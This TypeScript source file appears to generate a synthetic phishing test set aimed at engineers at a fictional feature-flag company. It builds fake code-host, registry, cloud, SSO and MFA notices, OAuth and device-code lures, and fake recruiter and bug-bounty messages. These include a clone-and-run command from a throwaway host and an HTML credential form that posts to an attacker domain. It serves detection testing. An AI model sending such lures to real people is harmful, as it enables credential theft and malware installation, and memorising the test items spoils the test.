// The seventeenth unseen phishing set: what the engineers, SREs and engineering managers of Halyard Systems
// (corp.example), a software company selling a feature-flag and release platform, are sent in 2024-2026 -
// fake code-host sign-in and security alerts, OAuth consent for look-alike apps and device codes, package
// registry token and account lures, fake CI/CD, cloud, CDN, DNS and monitoring billing and suspension
// notices, domain and certificate expiry, fake recruiters with a take-home repository or archive to run, fake
// bug-bounty reports and speaker invitations, chat and tracker invitations, SSO and MFA re-enrolment,
// wallet drainers for developers, licence callback scams and a CTO's name on free mail; mostly English with
// some German, Japanese, Portuguese and Polish (in unseen-17-local.ts). Written blind: from what such a team
// receives, without reading the desk, its tests or its data, and never run against the desk or a judge. The
// people, domains, MTA header and letter writer are in unseen-17-scene.ts.
import type { SeededRandom } from './generate.js';
import { qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING, MORE_PHISHING } from './unseen-17-local.js';
import {
  type Built,
  brandSender,
  buildSet,
  COMPANY,
  FREEMAIL,
  forged,
  mailbox,
  ORG_SLUG,
  own,
  PRODUCT,
  passes,
  type Template,
  unsigned,
} from './unseen-17-scene.js';
import { onePagePdf, protectedZip } from './unseen-payloads.js';

const PHISHING: Template[] = [
  {
    name: 'github-unusual-signin',
    kind: 'code-host-unusual-signin',
    write: (s) => {
      const host = s.lookalike('github');
      return {
        ...brandSender(s, 'GitHub', 'noreply@github.com', 'github'),
        brand: 'GitHub',
        subject: s.pick([
          '[GitHub] Unusual sign-in attempt detected',
          '[GitHub] Suspicious sign-in to your account',
          'Security alert: new sign-in from an unrecognized device',
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            'We detected a sign-in to your GitHub account from a device and location we have not seen before.',
            'Someone signed in to your account using your password from a new location. Two-factor authentication was bypassed using a recovery code.',
          ]),
          {
            rows: [
              ['Location', s.city()],
              ['IP address', s.ip()],
              ['Browser', s.pick(['Chrome on Windows', 'Firefox on Linux', 'Safari on macOS'])],
              ['Time', s.when()],
            ],
          },
          s.pick([
            'If this was not you, secure your account immediately. Access to organization repositories will be restricted until you confirm your identity.',
            'If you do not recognise this activity, review it now. Unreviewed sessions are suspended after 24 hours.',
          ]),
          {
            button: s.pick(['Review activity', 'Secure my account', 'This was not me']),
            href: `https://${host}${s.path('sessions', 'verify')}`,
          },
          'Thanks,\nThe GitHub Security Team',
        ],
      };
    },
  },
  {
    name: 'github-critical-advisory',
    kind: 'code-host-security-alert',
    write: (s) => {
      const repo = s.repo();
      const host = s.lookalike(s.pick(['github', 'gh-advisory', 'ghsa']));
      return {
        ...brandSender(
          s,
          s.pick(['GitHub Security', 'Dependabot', 'GitHub Advisory Database']),
          'security@github.com',
          'github',
        ),
        brand: 'GitHub',
        subject: `[${ORG_SLUG}/${repo}] ${s.pick(['Critical vulnerability requires immediate action', 'Your repository has been flagged for a leaked secret', 'Security advisory: malicious commit detected'])}`,
        blocks: [
          s.greeting(),
          s.pick([
            `A critical vulnerability (CVSS ${s.pick(['9.8', '10.0', '9.1'])}) was detected in a dependency of ${ORG_SLUG}/${repo}. Because the package is being actively exploited, automated security updates have been paused for your organization until an owner signs in and confirms the remediation plan.`,
            `Our secret scanning found an active cloud credential committed to ${ORG_SLUG}/${repo}. To prevent abuse, the repository will be made read-only in 12 hours unless a maintainer reviews the finding.`,
            `A commit pushed to ${ORG_SLUG}/${repo} matches a known supply-chain attack signature. Please review the commit and re-authenticate to restore Actions runs.`,
          ]),
          { button: 'View security alert', href: `https://${host}${s.path(ORG_SLUG, repo, 'security')}` },
          s.pick([
            'You are receiving this because you are an administrator of this repository.',
            'Do not reply to this message.',
          ]),
        ],
      };
    },
  },
  {
    name: 'github-oauth-scanner-app',
    kind: 'oauth-consent-lure',
    write: (s) => {
      const app = s.pick([
        'GitHub Security Scanner',
        'Actions Guard',
        'RepoShield Audit',
        'Copilot Security Review',
      ]);
      const client = `Iv1.${s.hex(16)}`;
      const back = s.lookalike(s.pick(['repo', 'gh', 'actions']));
      const a = own(
        s,
        s.pick([`${app} Team`, 'GitHub Security Lab', 'Security Notifications']),
        s.lookalike('gitsec'),
        'alerts',
      );
      return {
        ...a,
        subject: s.pick([
          `Action required: ${s.int(3, 14)} repositories failed the 2026 security baseline`,
          'Mandatory: authorize the new organization security scanner',
          `[${ORG_SLUG}] Vulnerable workflow detected - run the scanner`,
        ]),
        blocks: [
          s.greeting(),
          `Your organization ${ORG_SLUG} has repositories with workflows exposed to pull-request injection. ${app} can fix them automatically.`,
          'Authorization takes one click and uses your existing GitHub session. No password is needed.',
          {
            button: `Authorize ${app}`,
            href: `https://github.com/login/oauth/authorize?client_id=${client}&scope=repo%20workflow%20admin:org%20read:user&redirect_uri=https%3A%2F%2F${back}%2Fcallback&state=${s.hex(12)}`,
          },
          s.pick([
            'Repositories that are not scanned by Friday will be archived by the security policy.',
            'This scan is required for SOC 2 evidence collection.',
          ]),
        ],
      };
    },
  },
  {
    name: 'microsoft-device-code',
    kind: 'device-code-phishing',
    write: (s) => {
      const code = s.upper(9);
      const compromised = s.chance(0.5);
      const d = compromised ? s.compromised() : s.throwaway();
      const [first, last] = s.pick([
        ['Laura', 'Whitcombe'],
        ['Marco', 'Adler'],
        ['Ines', 'Rocha'],
        ['Grant', 'Mbeki'],
      ] as const);
      const [site, service] = s.pick([
        ['https://microsoft.com/devicelogin', 'Microsoft'],
        ['https://login.microsoftonline.com/common/oauth2/deviceauth', 'Microsoft'],
        ['https://github.com/login/device', 'GitHub'],
      ] as const);
      return {
        from: mailbox(
          compromised ? `${first} ${last}` : s.pick(['Microsoft Teams', 'Meeting Scheduler', 'Secure Share']),
          `${compromised ? first.toLowerCase() : s.pick(['meetings', 'office', 'admin'])}@${d}`,
        ),
        auth: passes(d),
        subject: s.pick([
          'Teams meeting: integration review',
          'You have been invited to a secure Teams call',
          'Shared workspace access - verification code inside',
          `Access to the ${PRODUCT} partner repository`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `To join the ${COMPANY} integration review in our tenant, open the ${service} device page and enter the code below. It links your account to the meeting.`,
            `Our tenant requires device verification for external guests. Enter this one-time code on the official ${service} page to accept the invitation.`,
            `To give our CI access to the shared repository, please authorise our integration on the official ${service} page with this code.`,
          ]),
          { code: `Code: ${code.slice(0, 4)}-${code.slice(4, 8)}` },
          { link: site, href: site },
          s.pick([
            'The code expires in 15 minutes, so please do it now.',
            'Please complete this before the call starts at 14:00.',
            'The page is the official one, so it is safe.',
          ]),
          compromised ? s.pick([`Thanks,\n${first}`, `Best regards,\n${first} ${last}`]) : 'Thanks',
        ],
      };
    },
  },
  {
    name: 'gitlab-token-expiry',
    kind: 'access-token-expiry-lure',
    write: (s) => {
      const host = s.lookalike('gitlab');
      return {
        ...brandSender(s, 'GitLab', 'gitlab@mg.gitlab.com', 'gitlab'),
        brand: 'GitLab',
        subject: s.pick([
          'Your personal access tokens expire today',
          'Action needed: access token expiring - pipelines will fail',
          'GitLab: renew your deploy token to avoid downtime',
        ]),
        blocks: [
          s.greeting(),
          `${s.int(2, 5)} access tokens used by your CI/CD pipelines expire ${s.pick(['today', 'in 2 hours', 'at midnight UTC'])}. After expiry, deployments to production will fail.`,
          {
            rows: [
              ['Token', `ci-${s.service()}`],
              ['Scopes', 'api, write_repository'],
              ['Expires', s.when()],
            ],
          },
          'Sign in to extend the tokens without changing your configuration.',
          {
            button: 'Extend tokens',
            href: `https://${host}${s.path('-', 'user_settings', 'personal_access_tokens')}`,
          },
        ],
      };
    },
  },
  {
    name: 'npm-account-update',
    kind: 'package-registry-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['npmjs', 'npm-registry', 'npm']));
      return {
        ...own(s, 'npm', host, s.pick(['support', 'noreply'])),
        brand: 'npm',
        subject: s.pick([
          'Update your two-factor authentication',
          'npm account: 2FA credentials must be updated',
          'Your npm publishing access will be locked',
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `As part of our ongoing commitment to account security, we require all maintainers to update their two-factor authentication credentials. Accounts that are not updated by ${s.date()} will be temporarily locked.`,
            `Packages published under @${ORG_SLUG} require re-verification of maintainer 2FA after the registry migration. Publishing will be disabled until you complete it.`,
          ]),
          { button: 'Update 2FA now', href: `https://${host}${s.path('login')}` },
          'If you have questions, contact support@npmjs.com.',
          'The npm team',
        ],
      };
    },
  },
  {
    name: 'pypi-verify',
    kind: 'package-registry-suspension',
    write: (s) => {
      const host = s.lookalike('pypi');
      const project = s.pick(['halyard', 'halyard-client', 'flagd-edge', 'halyard-cli']);
      return {
        ...brandSender(s, 'PyPI', 'noreply@pypi.org', 'pypi', 'admin'),
        subject: s.pick([
          `[PyPI] Project "${project}" scheduled for removal`,
          '[PyPI] Email verification required',
          `Your PyPI API token for ${project} was revoked`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `The project ${project} failed our malware policy review. To keep it online, an owner must verify their account and confirm the latest release within 72 hours.`,
            `A token scoped to ${project} was found in a public repository and has been revoked. Sign in to issue a new token and restore publishing.`,
          ]),
          {
            link: `https://pypi.org/manage/project/${project}/`,
            href: `https://${host}${s.path('account', 'verify')}`,
          },
          'PyPI Admins',
        ],
      };
    },
  },
  {
    name: 'docker-hub-suspension',
    kind: 'container-registry-suspension',
    write: (s) => {
      const host = s.lookalike('dockerhub');
      return {
        ...brandSender(s, 'Docker Hub', 'noreply@docker.com', 'docker'),
        brand: 'docker',
        subject: s.pick([
          'Your Docker Hub organization will be deactivated',
          'Docker: payment declined for Team subscription',
          'Image pulls blocked for your organization',
        ]),
        blocks: [
          s.greeting(),
          `We were unable to process the payment for the ${s.pick(['Team', 'Business'])} plan of ${ORG_SLUG}. Image pulls from private repositories ${s.pick(['are now limited', 'will stop in 48 hours'])}.`,
          { button: 'Update billing details', href: `https://${host}${s.path('billing')}` },
          'Docker, Inc.',
        ],
      };
    },
  },
  {
    name: 'ci-build-failed',
    kind: 'ci-notification-lure',
    write: (s) => {
      const ci = s.pick(['CircleCI', 'Buildkite', 'Jenkins', 'Travis CI']);
      const host = s.lookalike(ci.toLowerCase().replace(/ .*/, ''));
      const repo = s.repo();
      return {
        ...own(s, ci, host, 'builds'),
        brand: ci,
        subject: `${s.pick(['Failed', 'Broken', 'Build failed'])}: ${ORG_SLUG}/${repo} #${s.int(1200, 9800)} (main - ${s.hex(7)})`,
        blocks: [
          `${s.pick(['Your pipeline', 'Workflow build-and-deploy', 'Job deploy-production'])} failed on main.`,
          {
            code: `error: authentication required for artifact cache\nhint: re-link your VCS account to restore access\nexit status 128`,
          },
          { button: 'View build log', href: `https://${host}${s.path('pipelines', repo)}` },
          s.pick([
            'You are receiving this because you triggered the build.',
            'Manage notification settings in your profile.',
          ]),
        ],
      };
    },
  },
  {
    name: 'ci-secrets-rotation',
    kind: 'ci-incident-lure',
    write: (s) => {
      const ci = s.pick(['CircleCI', 'Travis CI', 'Codefresh']);
      const host = s.lookalike(ci.toLowerCase().replace(/ .*/, ''));
      return {
        ...brandSender(
          s,
          `${ci} Security`,
          `security@${ci.toLowerCase().replace(/ /g, '')}.com`,
          ci.toLowerCase().replace(/ .*/, ''),
        ),
        subject: s.pick([
          'Security incident: rotate your secrets immediately',
          'Urgent: action required after security incident',
          'Your project secrets may have been exposed',
        ]),
        blocks: [
          s.greeting(),
          'We are investigating a security incident affecting a subset of customer environments. Out of an abundance of caution we recommend that all customers immediately rotate any secrets stored in the platform.',
          `Use our rotation assistant to revoke and re-issue tokens for ${ORG_SLUG} in one step. You will be asked to sign in with your VCS provider.`,
          { button: 'Start secret rotation', href: `https://${host}${s.path('security', 'rotate')}` },
          `${ci} Security Team`,
        ],
      };
    },
  },
  {
    name: 'aws-account-suspension',
    kind: 'cloud-billing-suspension',
    write: (s) => {
      const host = s.lookalike(s.pick(['aws', 'amazonaws', 'aws-billing']));
      const account = `${s.int(1000, 9999)}-${s.int(1000, 9999)}-${s.int(1000, 9999)}`;
      return {
        ...brandSender(s, 'Amazon Web Services', 'no-reply@aws.amazon.com', 'aws'),
        brand: 'aws',
        subject: s.pick([
          `AWS Notification - Account ${account} scheduled for suspension`,
          'Your AWS account payment failed',
          'Action Required: AWS account verification',
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `We were unable to charge your payment method for the invoice of USD ${s.money(1800, 24000)}. If payment is not received within 24 hours, resources in account ${account} will be suspended and EBS snapshots may be deleted.`,
            `Your account ${account} has been flagged for unusual API activity in ${s.pick(['ap-southeast-1', 'sa-east-1', 'eu-north-1'])}. To avoid suspension, verify the account owner.`,
          ]),
          { button: 'Sign in to the Console', href: `https://${host}${s.path('console', 'billing')}` },
          'Sincerely,\nAmazon Web Services',
        ],
      };
    },
  },
  {
    name: 'gcp-billing-disabled',
    kind: 'cloud-billing-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['gcloud', 'googlecloud', 'cloudbilling']));
      const project = `${s.pick(['halyard-prod', 'halyard-staging', 'edge-eu'])}-${s.int(100000, 999999)}`;
      return {
        ...brandSender(s, 'Google Cloud Billing', 'billing-noreply@google.com', 'gcloud'),
        brand: 'Google Cloud',
        subject: s.pick([
          `[Action required] Billing disabled for project ${project}`,
          'Your Google Cloud free credits have expired - services stopping',
          'Payment issue on billing account',
        ]),
        blocks: [
          s.greeting(),
          `Billing for project ${project} has been disabled because the payment profile could not be verified. Compute Engine and Cloud SQL resources will be stopped ${s.pick(['in 3 days', 'today at 23:59 UTC'])}.`,
          { button: 'Verify payment profile', href: `https://${host}${s.path('billing', 'verify')}` },
          'Google Cloud Billing Support',
        ],
      };
    },
  },
  {
    name: 'azure-subscription',
    kind: 'cloud-subscription-disabled',
    write: (s) => {
      const host = s.lookalike(s.pick(['azure', 'azureportal', 'msazure']));
      const sub = `${s.hex(8)}-${s.hex(4)}-${s.hex(4)}-${s.hex(4)}-${s.hex(12)}`;
      return {
        ...brandSender(
          s,
          s.pick(['Microsoft Azure', 'Azure Billing', 'Microsoft Azure Support']),
          'azure-noreply@microsoft.com',
          'azure',
        ),
        brand: 'Microsoft Azure',
        subject: s.pick([
          'Your Azure subscription has been disabled',
          'Azure: your credit card was declined',
          'Immediate action: subscription spending limit reached',
          `Subscription ${sub.slice(0, 8)} will be deleted`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `Subscription ${sub} has been disabled. Virtual machines are deallocated and data will be deleted after 90 days.`,
            `We could not charge your payment method for subscription ${sub}. AKS clusters and storage accounts will be stopped in 48 hours.`,
            `Your subscription ${sub} reached its spending limit. Remove the limit or add a payment method to keep your resources running.`,
          ]),
          s.pick([
            'Reactivate the subscription by confirming your payment method.',
            'Sign in to the portal to review the billing alert.',
          ]),
          {
            button: s.pick(['Reactivate subscription', 'Go to Azure portal', 'Update payment method']),
            href: `https://${host}${s.path('subscriptions', 'reactivate')}`,
          },
          s.pick(['Microsoft Corporation, One Microsoft Way, Redmond, WA 98052', 'The Azure Team']),
        ],
      };
    },
  },
  {
    name: 'cloudflare-zone-paused',
    kind: 'cdn-account-lure',
    write: (s) => {
      const host = s.lookalike('cloudflare');
      const zone = s.pick(['halyard.example', 'halyardflags.example', 'status.halyard.example']);
      return {
        ...brandSender(
          s,
          s.pick(['Cloudflare', 'Cloudflare Trust & Safety', 'Cloudflare Billing']),
          'noreply@notify.cloudflare.com',
          'cloudflare',
        ),
        brand: 'Cloudflare',
        subject: s.pick([
          `Your zone ${zone} will be paused`,
          'Cloudflare: Abuse report received for your domain',
          'DNS records will be removed - verify ownership',
          `Payment failed for ${zone}`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `We received multiple abuse reports for content served through ${zone}. Unless the account owner verifies the account within 24 hours, the zone will be paused and traffic will no longer be proxied.`,
            `Your Pro plan renewal for ${zone} failed. The zone will be downgraded and WAF rules disabled at the end of the day.`,
            `We could not verify the nameservers of ${zone}. DNS records will be removed unless you confirm ownership.`,
          ]),
          {
            button: s.pick(['Review the report', 'Verify account', 'Update billing']),
            href: `https://${host}${s.path('dash', 'zones')}`,
          },
          s.pick(['Cloudflare Trust & Safety', 'Cloudflare, Inc.', 'The Cloudflare Team']),
        ],
      };
    },
  },
  {
    name: 'registrar-domain-expiry',
    kind: 'domain-expiry-lure',
    write: (s) => {
      const registrar = s.pick([
        'Domain Services',
        'DNS Registry Center',
        'Registrar Renewal Desk',
        'WHOIS Domain Protection',
      ]);
      const host = s.throwaway();
      const domain = s.pick([
        'halyard.example',
        'halyard-status.example',
        'corp.example',
        'halyardflags.example',
      ]);
      const local = s.pick(['renewals', 'billing', 'notice']);
      return {
        ...(s.chance(0.3)
          ? { from: mailbox(registrar, `${local}@${host}`), auth: unsigned(host, 'softfail') }
          : own(s, registrar, host, local)),
        subject: s.pick([
          `FINAL NOTICE: ${domain} expires in 2 days`,
          `Domain ${domain} - expiration notice`,
          `Your domain ${domain} has been suspended`,
        ]),
        blocks: [
          s.pick(['Dear Domain Owner,', 'Attn: Technical Contact', s.greeting()]),
          `Our records show that ${domain} expires on ${s.date()}. Failure to renew will result in the loss of your website, email and any DNS records. Once expired, the domain may be registered by a third party.`,
          {
            rows: [
              ['Domain', domain],
              ['Renewal term', s.pick(['1 year', '2 years', '5 years'])],
              ['Amount', `USD ${s.money(39, 149)}`],
            ],
          },
          { button: 'Renew now', href: `https://${host}${s.path('renew', domain)}` },
          'This notice is not a bill. Renewal is processed securely.',
        ],
      };
    },
  },
  {
    name: 'tls-certificate-expiry',
    kind: 'certificate-expiry-lure',
    write: (s) => {
      const ca = s.pick(['SSL Certificate Authority', 'CertRenew', 'TrustSeal SSL', 'DigiCert Support']);
      const host = s.chance(0.5) ? s.lookalike(s.pick(['digicert', 'sectigo', 'ssl'])) : s.throwaway();
      const cn = s.pick([
        'api.halyard.example',
        '*.halyard.example',
        'edge.halyard.example',
        'status.halyard.example',
      ]);
      return {
        ...own(s, ca, host, 'certificates'),
        subject: s.pick([
          `Certificate for ${cn} expires in 3 days`,
          `SSL expiry warning: ${cn}`,
          `Your TLS certificate ${cn} has been revoked`,
        ]),
        blocks: [
          s.greeting(),
          `The TLS certificate for ${cn} ${s.pick(['expires in 3 days', 'was revoked due to a validation error', 'expires tomorrow'])}. Browsers will show a security warning to your customers and API clients will fail the handshake.`,
          s.pick([
            'Re-validate the domain and download the renewed certificate from your account.',
            'Renew now to keep your site secure; validation takes less than two minutes.',
          ]),
          { button: 'Renew certificate', href: `https://${host}${s.path('order', 'renew')}` },
        ],
      };
    },
  },
  {
    name: 'monitoring-api-keys',
    kind: 'monitoring-account-lure',
    write: (s) => {
      const vendor = s.pick(['Datadog', 'New Relic', 'Grafana Cloud', 'Sentry']);
      const stem = vendor.toLowerCase().replace(/ .*/, '');
      const host = s.lookalike(stem);
      return {
        ...brandSender(s, vendor, `noreply@${stem}.com`, stem),
        brand: vendor,
        subject: s.pick([
          `${vendor}: your API keys have been revoked`,
          `${vendor} - monitoring paused for your organization`,
          `Usage limit exceeded - data ingestion stopped`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `Because one of your API keys was exposed in a public repository, all keys for the ${COMPANY} organization have been revoked. Agents stopped reporting at ${s.when()}.`,
            `Your organization exceeded its committed usage. Ingestion is paused and alerts will not fire until the overage of USD ${s.money(400, 5000)} is settled.`,
          ]),
          { button: 'Restore monitoring', href: `https://${host}${s.path('account', 'keys')}` },
        ],
      };
    },
  },
  {
    name: 'pagerduty-schedule',
    kind: 'on-call-tool-lure',
    write: (s) => {
      const host = s.lookalike('pagerduty');
      return {
        ...brandSender(s, 'PagerDuty', 'no-reply@pagerduty.com', 'pagerduty'),
        brand: 'PagerDuty',
        subject: s.pick([
          'You have been added to an on-call schedule',
          'Your contact methods failed verification',
          'PagerDuty: confirm your notification rules',
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `${s.full(s.boss)} added you to the schedule "Platform Primary" starting ${s.date()}. Confirm your phone number so that incidents can reach you.`,
            'Your SMS and push contact methods failed verification. You will not be paged for incidents until you sign in and confirm them.',
          ]),
          { button: 'Confirm contact methods', href: `https://${host}${s.path('users', 'contact_methods')}` },
        ],
      };
    },
  },
  {
    name: 'recruiter-take-home-repo',
    kind: 'fake-recruiter-repository',
    write: (s) => {
      const firm = s.pick([
        'Northbeam Capital',
        'Quantix Labs',
        'Helixa Protocol',
        'Arbor DeFi',
        'Solvane Exchange',
      ]);
      const domain = s.firmDomain(firm);
      const repoHost = `git.${s.throwaway()}`;
      const recruiter = s.pick(['Emily Carter', 'Daniel Novak', 'Sofia Marin', 'Ryan Cole']);
      return {
        from: mailbox(recruiter, `${recruiter.split(' ')[0].toLowerCase()}@${domain}`),
        auth: passes(domain),
        subject: s.pick([
          `${firm} - Senior ${s.pick(['Backend', 'Full-Stack', 'Platform'])} Engineer (remote, $${s.int(180, 260)}k)`,
          'Next step: technical assessment',
          `Following up on your profile - ${firm}`,
        ]),
        blocks: [
          s.greeting(),
          `Thank you for your interest in the role at ${firm}. The hiring manager was impressed by your open-source work and would like to move you straight to the technical assessment.`,
          'Please clone the repository below, run it locally and fix the failing test in the payments module. It should take about 45 minutes.',
          {
            code: `git clone https://${repoHost}/${firm.toLowerCase().replace(/ /g, '-')}/assessment.git\ncd assessment\nnpm install && npm start`,
          },
          s.pick([
            'Please complete it before our call tomorrow, and send me a screenshot when the app is running.',
            'The compensation range is flexible for strong candidates. Let me know when it is done.',
          ]),
          `Best,\n${recruiter}\nTalent Partner, ${firm}`,
        ],
      };
    },
  },
  {
    name: 'recruiter-take-home-archive',
    kind: 'fake-recruiter-archive',
    write: (s) => {
      const firm = s.pick(['Corvid Analytics', 'Lumora Pay', 'BlockForge', 'Tessellate AI']);
      const freemail = s.pick(FREEMAIL);
      const recruiter = s.pick(['Jason Miller', 'Anna Kowalski', 'Mark Stevens', 'Olivia Hart']);
      const file = s.pick([
        'assessment.zip',
        'coding-task.zip',
        `${firm.split(' ')[0].toLowerCase()}-task.zip`,
      ]);
      const password = s.upper(6);
      const protect = s.chance(0.5);
      return {
        from: mailbox(recruiter, `${recruiter.toLowerCase().replace(' ', '.')}${s.int(1, 99)}@${freemail}`),
        auth: passes(freemail),
        subject: s.pick([
          'Take-home assignment',
          `${firm} interview - coding task attached`,
          'Technical task for the role we discussed',
        ]),
        blocks: [
          s.greeting(),
          `As discussed on LinkedIn, attached is the coding task for the ${s.pick(['Lead Engineer', 'Senior SRE', 'Staff Engineer'])} position at ${firm}. Extract it, run the project with the provided start script and answer the questions in README.`,
          ...(protect ? [`The archive password is ${password}.`] : []),
          'Please return it within 24 hours so we can schedule the final round.',
          `Regards,\n${recruiter}`,
        ],
        parts: [
          {
            type: 'application/zip',
            name: file,
            content: protect
              ? protectedZip('assessment/start.js', s.int(1, 9999))
              : zipOf('assessment/setup.cmd'),
          },
        ],
      };
    },
  },
  {
    name: 'bug-bounty-poc',
    kind: 'fake-bug-bounty-report',
    write: (s) => {
      const handle = s.pick(['r00tk1t', 'sec_hunter', 'cyb3rsh1eld', 'bountyx', 'nullbyte_sec']);
      const freemail = s.pick(FREEMAIL);
      const file = s.pick(['poc_report.pdf', 'PoC.zip', 'vulnerability-details.html']);
      const host = s.throwaway();
      const parts =
        file === 'PoC.zip'
          ? [{ type: 'application/zip', name: file, content: zipOf('PoC/exploit.lnk') }]
          : file === 'poc_report.pdf'
            ? [
                {
                  type: 'application/pdf',
                  name: file,
                  content: onePagePdf(
                    [
                      'Vulnerability report - Critical',
                      `Target: api.halyard.example`,
                      'Full details and video on the secure portal:',
                      `https://${host}/report/${s.hex(8)}`,
                    ],
                    { link: `https://${host}/report/${s.hex(8)}` },
                  ),
                },
              ]
            : [
                {
                  type: 'text/html',
                  name: file,
                  content: Buffer.from(
                    `<html><body><form action="https://${host}/r.php" method="post"><p>Sign in with your work account to view the report</p><input name="e"><input name="p" type="password"></form></body></html>`,
                  ),
                },
              ];
      return {
        from: mailbox(handle, `${handle}@${freemail}`),
        auth: passes(freemail),
        to: mailbox('Security', `security@corp.example`),
        subject: s.pick([
          'Critical vulnerability in your platform - bounty?',
          'Security vulnerability report (account takeover)',
          'Responsible disclosure: IDOR in your API',
        ]),
        blocks: [
          'Hello Security Team,',
          `I found a ${s.pick(['critical account takeover', 'remote code execution', 'IDOR exposing all customer flags'])} vulnerability in your ${PRODUCT} ${s.pick(['API', 'dashboard', 'SDK'])}. Proof of concept is attached.`,
          s.pick([
            'Please review it and tell me what bounty you offer. I will wait 48 hours before publishing.',
            'Open the attachment on a desktop to see the full steps.',
          ]),
          'Regards',
        ],
        parts,
      };
    },
  },
  {
    name: 'conference-speaker-invite',
    kind: 'fake-speaker-invitation',
    write: (s) => {
      const conf = s.pick([
        'Global DevOps Summit 2027',
        'CloudScale World Congress',
        'International Conference on Software Reliability',
        'Platform Engineering Leaders Forum',
      ]);
      const domain = s.throwaway();
      return {
        ...own(s, `${conf} Program Committee`, domain, s.pick(['speakers', 'program', 'invite'])),
        subject: s.pick([
          `Invitation to speak at ${conf}`,
          `Keynote invitation - ${conf}`,
          'Speaker confirmation required',
        ]),
        blocks: [
          s.greeting(),
          `Based on your work on ${PRODUCT} and your talks on feature delivery, the program committee would be honoured to invite you as a ${s.pick(['keynote speaker', 'panelist', 'featured speaker'])} at ${conf} in ${s.pick(['Dubai', 'Singapore', 'Barcelona', 'Las Vegas'])}.`,
          s.pick([
            'Please confirm your participation through the speaker portal with your corporate account so that we can list you on the agenda.',
            `Travel and accommodation are covered. A refundable registration deposit of EUR ${s.money(290, 690)} secures your slot.`,
          ]),
          { button: 'Accept invitation', href: `https://${domain}${s.path('speaker', 'accept')}` },
          'Warm regards,\nProgram Committee',
        ],
      };
    },
  },
  {
    name: 'slack-workspace-invite',
    kind: 'chat-invitation-lure',
    write: (s) => {
      const host = s.lookalike('slack');
      const team = s.pick(['halyard-eng', 'halyard-incidents', 'vendors-halyard', 'halyard-sre']);
      return {
        ...brandSender(s, 'Slack', 'feedback@slack.com', 'slack', 'no-reply'),
        brand: 'slack',
        subject: s.pick([
          `${s.full(s.mate)} has invited you to work with them in Slack`,
          `Join ${team} on Slack`,
          'You have 4 unread messages in #incident-war-room',
        ]),
        blocks: [
          `${s.full(s.mate)} (${s.address(s.mate)}) has invited you to join the Slack workspace ${team}.`,
          s.pick([
            'Sign in with your Google or Microsoft account to join.',
            'Messages will be deleted if you do not join within 3 days.',
          ]),
          { button: 'Join now', href: `https://${host}${s.path('join', team)}` },
        ],
      };
    },
  },
  {
    name: 'jira-mention',
    kind: 'tracker-notification-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['atlassian', 'jira', 'atlassian-cloud']));
      const key = `${s.pick(['PLAT', 'SRE', 'SEC', 'REL'])}-${s.int(100, 4800)}`;
      return {
        ...brandSender(s, `${s.full(s.mate)} (Jira)`, 'jira@halyard.atlassian.net', 'atlassian'),
        brand: 'Jira',
        subject: `[JIRA] ${s.full(s.mate)} mentioned you on ${key}: ${s.pick(['Production credentials rotation', 'Access review Q4', 'Offboarding: revoke tokens'])}`,
        blocks: [
          `${s.full(s.mate)} mentioned you on ${key}`,
          {
            quote: `@${s.victim.first} please confirm your access by ${s.pick(['end of day', 'noon'])}, otherwise your account is removed from the audit group.`,
          },
          { button: 'View issue', href: `https://${host}${s.path('browse', key)}` },
        ],
      };
    },
  },
  {
    name: 'okta-reenrol',
    kind: 'sso-reenrolment',
    write: (s) => {
      const host = s.pick([
        `halyard-okta.${s.pick(['com', 'net', 'app'])}`,
        s.lookalike('okta'),
        `sso-halyard.${s.pick(['com', 'io'])}`,
        `halyard.okta-${s.pick(['verify', 'login', 'sso'])}.com`,
      ]);
      const factor = s.pick(['Okta Verify', 'your security key', 'your authenticator app']);
      return {
        ...(s.chance(0.4)
          ? forged(s, s.pick(['IT Service Desk', 'Okta Administrator']), `it@corp.example`)
          : own(s, `${COMPANY} IT`, host, s.pick(['it-support', 'okta', 'identity']))),
        subject: s.pick([
          'Action required: re-enrol your Okta Verify device',
          'MFA migration - complete by Friday',
          'Your SSO session will be terminated',
          `[Okta] ${factor} must be re-registered`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `We are moving all staff to phishing-resistant MFA. Existing enrolments of ${factor} stop working on Friday. Re-enrol now to keep access to GitHub, AWS and the VPN.`,
            `Our Okta tenant was upgraded to Identity Engine. ${factor} has to be registered again, otherwise you will be signed out of all applications at midnight.`,
            `An administrator reset ${factor} on your account after a security review. Complete the enrolment within 4 hours to avoid being locked out.`,
          ]),
          {
            button: s.pick(['Re-enrol device', 'Start enrolment', 'Keep access']),
            href: `https://${host}${s.path('signin', 'enroll')}`,
          },
          s.pick(['Thanks,\nIT Service Desk', `${COMPANY} Identity Team`, 'IT']),
        ],
      };
    },
  },
  {
    name: 'm365-password-expiry',
    kind: 'sso-password-expiry',
    write: (s) => {
      const host = s.throwaway();
      return {
        ...(s.chance(0.5)
          ? forged(s, 'Microsoft 365', 'no-reply@corp.example')
          : own(s, 'Microsoft 365 Admin', host, 'postmaster')),
        subject: s.pick([
          `Password for ${s.address(s.victim)} expires today`,
          'Mailbox password expiry notice',
          'Keep current password',
        ]),
        blocks: [
          `The password for ${s.address(s.victim)} expires today. You can keep your current password.`,
          {
            button: 'Keep current password',
            href: `https://${host}${s.path('owa', 'keep')}#${Buffer.from(s.address(s.victim)).toString('base64')}`,
          },
          `${COMPANY} IT Administration`,
        ],
      };
    },
  },
  {
    name: 'mfa-qr-enrolment',
    kind: 'qr-code-mfa',
    write: async (s) => {
      const host = s.throwaway();
      const url = `https://${host}${s.path('mfa')}`;
      const inPdf = s.chance(0.5);
      const title = s.pick([
        'MFA re-registration',
        'Authenticator renewal',
        'Security key re-validation',
        'Benefits portal sign-in',
      ]);
      return {
        ...(s.chance(0.5)
          ? forged(
              s,
              s.pick(['IT Security', 'Identity Team', 'Microsoft Authenticator']),
